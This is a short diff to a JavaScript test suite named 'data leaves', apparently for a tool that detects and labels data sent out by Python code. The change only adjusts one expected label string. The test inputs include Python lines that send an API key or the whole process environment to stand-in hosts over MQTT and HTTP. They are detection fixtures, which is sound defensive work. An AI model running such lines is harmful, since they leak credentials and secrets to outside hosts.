@@ -25,7 +25,7 @@ describe("data leaves", () => {
       `import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('c.example', 1883)\nc.publish('q', os.getenv('A_KEY'))`,
       `send http c.example [~… <$A_KEY>]`,
     ],
-    [`requests.get('${U}?e=' + json.dumps(dict(os.environ)))`, `send http ~${U}?e={…} <$*> [~${U}?e={…} <$*>]`],
+    [`requests.get('${U}?e=' + json.dumps(dict(os.environ)))`, `send http ~${U}?e=… <$*> [~${U}?e=… <$*>]`],
     [`requests.request('POST', '${U}', data='a')`, `send http ${U} [a]`],
     [`requests.get('${U}', headers={'A': os.getenv('A_KEY')})`, `send http ${U} [~{A: …} <$A_KEY>]`],
     [`requests.get('${U}', params={'q': os.getenv('A_KEY')})`, `send http ${U} [~{q: …} <$A_KEY>]`],
